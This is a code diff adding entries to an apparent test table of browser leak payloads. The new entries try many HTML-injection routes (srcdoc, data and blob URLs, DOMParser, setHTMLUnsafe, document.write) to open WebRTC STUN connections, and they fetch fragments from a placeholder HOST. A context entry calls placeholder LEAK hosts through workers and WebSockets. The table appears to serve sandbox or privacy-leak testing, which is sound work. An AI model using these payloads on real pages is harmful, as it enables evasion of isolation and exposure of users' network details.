@@ -76,6 +76,22 @@ ATTACKS = {
     "webrtc-fresh": """<iframe></iframe><script>try{const R=document.querySelector('iframe').contentWindow.RTCPeerConnection;
         const p=new R({iceServers:[{urls:'stun:STUN'}]});p.createDataChannel('a');
         p.createOffer().then(o=>p.setLocalDescription(o))}catch(e){}</script>""",
+    "webrtc-inner": """<script>const html="<scr"+"ipt>const p=new RTCPeerConnection({iceServers:[{urls:'stun:STUN'}]});"+
+        "p.createDataChannel('a');p.createOffer().then(o=>p.setLocalDescription(o))</scr"+"ipt>";
+        const frame=()=>document.body.appendChild(document.createElement('iframe'));
+        const tag="<iframe srcdoc='"+html.replaceAll("'","&#39;")+"'></iframe>";
+        frame().srcdoc=html; frame().setAttribute('srcdoc',html); frame().src='data:text/html,'+html;
+        frame().src=URL.createObjectURL(new Blob([html],{type:'text/html'}));
+        const a=document.createAttribute('srcdoc');a.nodeValue=html;frame().setAttributeNode(a);
+        document.body.insertAdjacentHTML('beforeend',tag);
+        document.body.append(document.adoptNode(new DOMParser().parseFromString(tag,'text/html').querySelector('iframe')));
+        const d=document.createElement('div');d.setHTMLUnsafe(tag);document.body.append(d);
+        const t=document.createElement('template');t.innerHTML=tag;document.body.append(t.content.cloneNode(true));
+        document.body.append(Document.parseHTMLUnsafe(tag).body.firstChild);document.write(tag)</script>""",
+    "webrtc-fetched": """<script>const x=new XMLHttpRequest();x.open('GET','HOST/fragment');x.responseType='document';
+        x.onload=()=>document.body.append(document.adoptNode(x.response.querySelector('iframe')));x.send();
+        fetch('HOST/fragment').then(r=>r.text()).then(t=>{const d=document.createElement('p');d.innerHTML=t;document.body.append(d)})
+        </script>""",
     "worker": """<script>try{new Worker(URL.createObjectURL(new Blob(["fetch('LEAK/w',{mode:'no-cors'}).catch(()=>{});"+
         "try{importScripts('LEAK/wi')}catch(e){};try{new WebSocket('WSLEAK/ww')}catch(e){}"])));
         new Worker('LEAK/w.js')}catch(e){}</script>""",
